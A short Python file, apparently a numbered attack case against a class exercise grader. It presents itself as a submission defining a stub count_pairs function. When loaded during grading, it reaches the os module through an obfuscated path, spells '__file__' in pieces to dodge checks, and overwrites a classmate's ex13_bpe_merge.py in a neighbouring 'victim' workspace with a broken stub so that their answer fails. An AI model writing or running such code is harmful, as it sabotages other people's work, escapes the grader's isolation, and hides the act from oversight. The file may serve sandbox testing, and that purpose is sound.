"""Issue 33, round five: during `exercises grade`, a file of the next workspace of the class
overwritten (os.open, a descriptor), so that a classmate's answer fails."""
import collections

BAD = "def count_pairs(chunks):\n    return {}\n"
os = collections._sys.modules["os"]
here = os.path.dirname(globals()["__fi" + "le__"])
victim = here + "/../../victim/exercises/ex13_bpe_merge.py"
fd = os.open(victim, os.O_WRONLY | os.O_TRUNC)
os.write(fd, BAD.encode())


def count_pairs(chunks):
    return {}
